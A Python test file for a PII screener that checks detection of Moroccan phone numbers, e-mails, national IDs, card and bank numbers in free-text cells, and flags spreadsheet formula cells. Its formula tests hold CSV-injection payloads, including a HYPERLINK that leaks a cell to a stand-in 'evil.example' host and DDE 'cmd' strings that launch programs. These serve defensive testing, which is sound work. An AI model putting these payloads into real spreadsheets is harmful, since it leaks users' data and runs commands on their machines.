"""Identifiers inside free text (several per cell, Unicode spaces and digits, punctuation
around them) and formula cells: found, counted and placed by row, never quoted."""

from __future__ import annotations

import json

import phonenumbers
import pytest
from hypothesis import HealthCheck, assume, example, given, settings
from hypothesis import strategies as st

from governance.pii import Screener, scan_rows

SCREENER = Screener()


def _found(cell: str, header: str = "notes") -> dict[str, tuple[int, int]]:
    """detector -> (cells, occurrences) for one cell under ``header``."""
    report = SCREENER.scan_rows([header], [[cell]])
    return {f.detector: (f.matches, f.occurrences) for f in report.findings if f.source == "values"}


@pytest.mark.parametrize(
    ("cell", "detector"),
    [
        ("a@gov.ma; b@gov.ma", "email"),
        ("Tel: 0612345678", "phone"),
        ("Tél.0612345678 (bureau)", "phone"),
        ("06\u00a012\u00a034\u00a056\u00a078", "phone"),
        ("appeler le 06\u202f12\u202f34\u202f56\u202f78 après 18h", "phone"),
        ("+212\u00a06\u00a012\u00a034\u00a056\u00a078", "phone"),
        ("٠٦١٢٣٤٥٦٧٨", "phone"),
        ("06\u200b12345678", "phone"),
        ("0612345678 24h/24", "phone"),
        ("réf 01 0612345678 12 rue Atlas", "phone"),
        ("BE.123456", "national-id"),
        ("titulaire de la CIN BE.123456, délivrée à Rabat", "national-id"),
        ("CIN: AB123456.", "national-id"),
        ("payé avec la carte 4111 1111 1111 1111 hier", "card"),
        ("carte n°4111111111111111", "card"),
        ("virement sur MA64 0117 8000 0012 3456 7890 1296 reçu", "iban"),
        ("compte 011 780 0000123456789012 96 ouvert", "rib"),
        ("contact: \uff21\uff22\uff11\uff12\uff13\uff14\uff15\uff16", "national-id"),
        ("écrire à amina.alaoui@menara.ma ou appeler", "email"),
    ],
)
def test_identifiers_are_found_inside_text(cell, detector):
    assert detector in _found(cell), _found(cell)


def test_a_cell_with_several_identifiers_counts_each_once_per_cell():
    """Two addresses in one cell: one cell matched, two occurrences."""
    report = scan_rows(["contacts"], [["a@gov.ma; b@gov.ma"], ["rien"], ["c@gov.ma"]])
    finding = report.finding("contacts:email")
    assert finding is not None
    assert (finding.matches, finding.occurrences, finding.rows) == (2, 3, (1, 3))
    assert finding.as_dict()["occurrences"] == 3


def test_two_phone_numbers_side_by_side_are_two():
    assert _found("0612345678 0661234567 0522123456")["phone"] == (1, 3)


@pytest.mark.parametrize(
    "cell",
    [
        "la commune a 12345 habitants",
        "article 123456 du code",
        "ref ABC123456",
        "HS 0101210000 chevaux reproducteurs",
        "montant 1234567890 dirhams",
        "version 2.0.1",
        "FR00 1234 5678 9012 3456 7890 123",
        "le 12/03/2024 à 10:30",
        "0123456789",
        "commande 1234 5678 9012 3456",
    ],
)
def test_lookalikes_inside_text_are_left_alone(cell):
    assert _found(cell) == {}


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1,"cliquer")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3",
        "=1+1",
        "\t=1+1",
        " =cmd|' /C notepad'!A1",
        '\uff1dHYPERLINK("x")',
        "+1-1",
    ],
)
def test_formula_cells_are_findings(cell):
    report = scan_rows(["libelle"], [[cell], ["texte ordinaire"]])
    finding = report.finding("libelle:formula")
    assert finding is not None, report.findings
    assert (finding.matches, finding.rows, finding.blocking) == (1, (1,), True)
    assert finding.category == "formula"
    assert cell.strip() not in json.dumps(report.as_dict(), ensure_ascii=False)


@pytest.mark.parametrize(
    "cell", ["-5", "-12.50", "+4", "-", "=", "@", "'=1+1", "+212 6 12 34 56 78", "a=b", "1e-3"]
)
def test_numbers_signs_and_neutralised_cells_are_not_formulas(cell):
    report = scan_rows(["valeur"], [[cell]])
    assert report.finding("valeur:formula") is None


# ---- the general claim: an identifier in arbitrary surrounding text is found ------------

SEPARATORS = st.sampled_from([" ", "  ", ", ", "; ", ": ", " / ", " (", ") ", "\n", "\t", " - "])
WORDS = st.text(
    alphabet=st.characters(
        whitelist_categories=("L", "N", "Zs"), whitelist_characters=".,;:!?'()/-"
    ),
    max_size=40,
)


@st.composite
def phones(draw: st.DrawFn) -> str:
    national = draw(st.sampled_from("5678")) + draw(st.text("0123456789", min_size=8, max_size=8))
    number = phonenumbers.parse("0" + national, "MA")
    assume(phonenumbers.is_valid_number(number))
    style = draw(st.sampled_from(["national", "international", "e164", "plain", "00", "dots"]))
    if style == "national":
        text = phonenumbers.format_number(number, phonenumbers.PhoneNumberFormat.NATIONAL)
    elif style == "international":
        text = phonenumbers.format_number(number, phonenumbers.PhoneNumberFormat.INTERNATIONAL)
    elif style == "e164":
        text = phonenumbers.format_number(number, phonenumbers.PhoneNumberFormat.E164)
    elif style == "00":
        text = "00212" + national
    elif style == "dots":
        digits = "0" + national
        text = ".".join(digits[i : i + 2] for i in range(0, 10, 2))
    else:
        text = "0" + national
    space = draw(st.sampled_from([" ", "\u00a0", "\u202f", "\u2009"]))
    return text.replace(" ", space)


EMAILS = st.builds(
    "{}@{}.{}".format,
    st.from_regex(r"[a-z0-9](?:[a-z0-9._-]{0,14}[a-z0-9])?", fullmatch=True),
    st.from_regex(r"[a-z0-9]{1,12}(?:\.[a-z0-9]{1,12})?", fullmatch=True),
    st.from_regex(r"[a-z]{2,6}", fullmatch=True),
)
CINS = st.builds(
    "{}{}{}".format,
    st.from_regex(r"[A-Z]{1,2}", fullmatch=True),
    st.sampled_from(["", " ", ".", "-"]),
    st.from_regex(r"[0-9]{5,6}", fullmatch=True),
)
IDENTIFIERS = st.one_of(
    st.tuples(st.just("phone"), phones()),
    st.tuples(st.just("email"), EMAILS),
    st.tuples(st.just("national-id"), CINS),
)


@settings(max_examples=400, suppress_health_check=[HealthCheck.too_slow])
@given(WORDS, SEPARATORS, IDENTIFIERS, SEPARATORS, WORDS)
@example("Tel", ": ", ("phone", "0612345678"), " ", "24h/24")
@example("", "", ("email", "a@gov.ma"), "; ", "b@gov.ma")
@example("ref 01", " ", ("phone", "0612345678"), " ", "12 rue")
def test_any_identifier_embedded_in_text_is_found(before, left, identifier, right, after):
    """Whatever text surrounds it, past a separator, a phone number, an e-mail address or an
    identity card number is found in the cell (and the report never holds it)."""
    detector, value = identifier
    cell = f"{before}{left}{value}{right}{after}"
    report = SCREENER.scan_rows(["notes"], [[cell]])
    assert detector in {f.detector for f in report.findings}, (cell, report.findings)
    assert value not in json.dumps(report.as_dict(), ensure_ascii=False)
